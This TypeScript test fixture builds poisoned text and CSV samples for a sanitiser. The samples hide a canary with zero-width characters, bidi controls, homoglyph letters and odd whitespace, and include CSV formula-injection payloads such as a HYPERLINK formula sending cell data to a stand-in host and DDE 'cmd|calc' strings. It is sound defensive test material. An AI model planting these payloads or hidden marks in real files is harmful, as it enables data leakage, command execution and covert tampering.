/** Poisoned texts and tables: marks that nobody sees, in encodings, spaces, letters and cells. */
import { canary, likeClean, refused, type Poison } from './poison.ts';

const utf8 = (text: string): Buffer => Buffer.from(text, 'utf8');
/** The canary as ones and noughts, for marks that have two forms. */
const bits = [...utf8(canary)].flatMap(byte => [...byte.toString(2).padStart(8, '0')].map(Number));
const either = (zero: string, one: string): string => bits.map(bit => (bit === 0 ? zero : one)).join('');

const words =
  'A member of our staff opened a copy of the invoice on a phone and gave away the password there.';
/** Every second place where `of` stands gets the other form, by the bits of the canary. */
const inPlaceOf = (text: string, of: string, other: string): string => {
  let at = 0;
  return text.replaceAll(of, found => (bits[(at++ * 7 + 1) % bits.length] === 1 ? other : found));
};
const many = Array.from({ length: 40 }, (_, n) => `${n + 1}. ${words}`).join('\n');

const marked: readonly (readonly [string, string, string])[] = [
  ['byte-order mark', `\ufeff${words}`, words],
  ['zero-width bits', `A${either('\u200b', '\u200c')} member`, 'A member'],
  ['joiners and invisible operators', `A mem${either('\u2060', '\u2063')}ber`, 'A member'],
  [
    'letters of direction',
    `A \u202e${canary}\u202c`.replace(canary, '\u2066\u2069\u200f') + 'member',
    'A member',
  ],
  [
    'tag characters',
    `A member${[...canary].map(each => String.fromCodePoint(0xe0000 + each.charCodeAt(0))).join('')} left`,
    'A member left',
  ],
  [
    'variation selectors',
    `A member${bits.map(bit => (bit === 0 ? '\ufe00' : '\u{e0101}')).join('')} left`,
    'A member left',
  ],
  ['soft hyphens', inPlaceOf(many, 'ss', 's\u00ads'), many],
  ['fillers and blanks that are letters', `A mem${either('\u3164', '\uffa0')}\u2800\u115fber`, 'A member'],
  ['private code points', `A member\ue000\uf8ff\u{f0000}`, 'A member'],
  ['controls and colours of a terminal', `A\u0007 mem\u0008ber\u001b\u009d left\u007f`, 'A member left'],
  ['spaces of other widths', inPlaceOf(many, ' ', '\u00a0'), many],
  ['thin spaces', inPlaceOf(many, ' ', '\u2009'), many],
  [
    'spaces behind the lines',
    many
      .split('\n')
      .map((line, n) => line + (bits[n] === 1 ? ' \t' : '  '))
      .join('\n'),
    many,
  ],
  ['tabs for spaces', 'code    name\nx       y', 'code\tname\nx \ty'],
  ['ends of lines', inPlaceOf(many, '\n', '\r\n'), many],
  ['old ends of lines', inPlaceOf(many, '\n', '\r'), many],
  ['separators of lines and paragraphs', inPlaceOf(many, '\n', '\u2028'), many],
  [
    'empty lines',
    many.replaceAll('\n', '\n\n').replace('\n\n', '\n\n\n\n\n') + '\n\n\n',
    `\n\n${many.replaceAll('\n', '\n\n')}`,
  ],
  [
    'composed accents',
    'Cyngor Sir Ynys M\u006f\u0302n a Ch\u0061\u0302n',
    'Cyngor Sir Ynys M\u00f4n a Ch\u00e2n',
  ],
  ['Cyrillic letters in English words', inPlaceOf(many, 'o', '\u043e'), many],
  ['English words in Cyrillic letters alone', inPlaceOf(many, ' a ', ' \u0430 '), many],
  [
    'Cyrillic letters in the English words of a Russian text',
    'Срочно оплатите этот счёт: pl\u0435as\u0435 open it.',
    'Срочно оплатите этот счёт: please open it.',
  ],
  ['Greek letters in English words', inPlaceOf(many, 'A', '\u0391'), many],
  ['phonetic letters', inPlaceOf(many, 'g', '\u0261'), many],
  ['letters of full width', inPlaceOf(many, 'm', '\uff4d'), many],
  ['mathematical letters', inPlaceOf(many, 'e', '\u{1d41e}'), many],
  ['ligatures', many.replaceAll('staff', 'sta\ufb00'), many],
  [
    'quotes and hyphens of a word processor',
    '\u2018So\u2019, \u201cit\u201d is\u2026 a\u2010b\u2011c \u22121',
    `'So', "it" is... a-b-c -1`,
  ],
  ['signs of full width', 'Who\uff1f We\uff01', 'Who? We!'],
  ['beginning like a bitmap', 'BM\u200b is short for benchmark.', 'BM is short for benchmark.'],
];

const table = 'system,hours\nmail,4\nbackup,12\n';
const markedTables: readonly (readonly [string, string])[] = [
  ['byte-order mark', `\ufeff${table}`],
  ['quoting', '"system",hours\nmail,"4"\n"backup","12"'],
  ['another separator', 'system;hours\r\nmail;4\r\nbackup;12\r\n'],
  ['tabs', 'system\thours\nmail\t4\nbackup\t12'],
  ['separator told in a line', 'sep=;\nsystem;hours\nmail;4\nbackup;12'],
  ['spaces in cells', ' system , hours\t\nmail\u00a0,4\n  backup,12  '],
  ['empty columns and rows', 'system,,hours,,\n,,,,\nmail,,4,,\nbackup,,12,,\n,,,,\n'],
  [
    'a column of zero-width characters',
    `system,${either('\u200b', '\u200c')},hours\nmail,\u2060,4\nbackup,\ufeff,12`,
  ],
  ['zero-width characters beside quotes', '"system"\u200b,hours\n\u200d"mail",4\nbackup,12'],
  ['controls', 'sys\u0001tem,hours\nmail,4\u001f\nbackup,12'],
  ['Cyrillic letters', 'syst\u0435m,h\u043eurs\nmail,4\nb\u0430ckup,12'],
];

const formulas: readonly (readonly [string, string])[] = [
  ['formula', '=HYPERLINK("http://x/"&A1)'],
  ['formula by plus', '+cmd|calc'],
  ['formula by minus', '-2+3+cmd|calc'],
  ['formula by at', '@SUM(A1)'],
  ['formula behind a tab', '\t=1+1'],
  ['formula behind a line', '\r\n=1+1'],
  ['formula behind a zero-width character', '\u200b=1+1'],
  ['formula of full width', '\uff1d1+1'],
  ['formula by a mathematical minus', '\u22121+cmd|calc'],
  ['formula behind spaces', '   =1+1'],
];

export const poisonedTexts: readonly Poison[] = [
  ...marked.map(([name, mark, clean]) => likeClean(`text ${name}`, 'txt', utf8(mark), utf8(clean))),
  refused('text with a nought', 'txt', utf8(`words\0${canary}`), 'unknown_kind'),
  refused('text in UTF-16', 'txt', Buffer.from(`\ufeffwords ${canary}`, 'utf16le'), 'not_utf8'),
  refused('text in UTF-16 without a mark', 'txt', Buffer.from(`words ${canary}`, 'utf16le'), 'unknown_kind'),
  refused('text in Windows-1252', 'txt', Buffer.from(`caf\xe9 ${canary} \x96`, 'latin1'), 'not_utf8'),
  refused(
    'text with overlong characters',
    'txt',
    Buffer.from(`words \xc1\x81\xc0\xaf ${canary}`, 'latin1'),
    'not_utf8',
  ),
  refused(
    'text with half a surrogate',
    'txt',
    Buffer.from(`words \xed\xa0\x80 ${canary}`, 'latin1'),
    'not_utf8',
  ),
  refused(
    'text of unseen characters alone',
    'txt',
    utf8(`\ufeff${either('\u200b', '\u200c')} \n\t`),
    'empty',
  ),
  refused('text of too many characters', 'txt', utf8(`${words}\n`.repeat(12_000)), 'too_large'),
  likeClean('text named as a picture', 'jpg', utf8(`\u200b${words}`), utf8(words)),

  ...markedTables.map(([name, mark]) => likeClean(`table ${name}`, 'csv', utf8(mark), utf8(table))),
  ...formulas.map(([name, cell]): Poison => ({
    name: `table ${name}`,
    extension: 'csv',
    bytes: utf8(`system,note\nmail,"${cell.replaceAll('"', '""')}"\n`),
    becomes: 'a safe table',
  })),
  refused('table with a line of comment', 'csv', utf8(`# exported by ${canary}\n${table}`), 'table_uneven'),
  refused(
    'table with a column too many in one row',
    'csv',
    utf8(`${table}web,2,${canary}\n`),
    'table_uneven',
  ),
  refused('table with an open quote', 'csv', utf8(`${table}"web,2\n${canary}`), 'table_uneven'),
  refused('table of too many rows', 'csv', utf8(`a,b\n${'1,2\n'.repeat(20_001)}`), 'too_large'),
  refused('table of nothing', 'csv', utf8(',,\n,\u200b,\n'), 'empty'),
];
